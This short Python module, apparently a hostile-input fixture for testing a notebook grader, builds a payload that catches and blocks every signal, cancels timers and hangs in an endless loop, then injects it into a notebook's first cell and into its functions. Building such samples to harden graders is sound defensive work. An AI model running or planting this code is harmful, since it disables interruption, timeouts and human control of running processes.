"""Block, catch and hide every signal, so that nothing that runs can be stopped."""

from assignments.hostile import first, replaced

ATTACK = """
import ctypes
import signal
import time

LIBC = ctypes.CDLL(None)

class Deaf:
    def __call__(self, *arguments):
        raise SystemExit

def attack(*arguments, **options):
    for number in signal.valid_signals():
        try:
            signal.signal(number, Deaf())
        except OSError:
            pass
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    LIBC.sigaltstack(None, None)
    if arguments or options:
        while True:
            try:
                time.sleep(100)
            except BaseException:
                pass
"""


def spoil(notebook, honest):
    """Block them in a cell, and block and hang in the other functions."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
